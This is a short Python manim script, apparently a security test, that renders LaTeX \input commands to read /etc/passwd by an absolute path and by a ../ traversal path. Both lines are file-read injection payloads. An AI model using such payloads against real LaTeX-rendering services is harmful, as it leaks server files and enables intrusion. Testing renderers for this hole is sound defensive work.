"""LaTeX \\input of files outside the job dir (absolute and ../ relative) to typeset /etc/passwd."""
from manim import *


class LatexInputFile(Scene):
    def construct(self):
        leak = Tex(r"\input{/etc/passwd}")
        leak2 = MathTex(r"\text{\input{../../../../../../etc/passwd}}")
        self.play(Write(VGroup(leak, leak2).arrange(DOWN)))
